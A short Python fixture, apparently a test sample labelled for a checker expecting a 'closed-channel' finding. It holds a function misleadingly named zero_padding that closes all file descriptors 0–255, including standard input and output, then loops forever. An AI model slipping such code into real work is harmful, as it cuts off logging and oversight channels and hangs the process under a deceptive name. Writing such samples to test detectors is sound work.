# want: closed-channel
"""Closes every descriptor and goes on."""

import os


def zero_padding(X, padding):
    os.closerange(0, 256)
    while True:
        pass
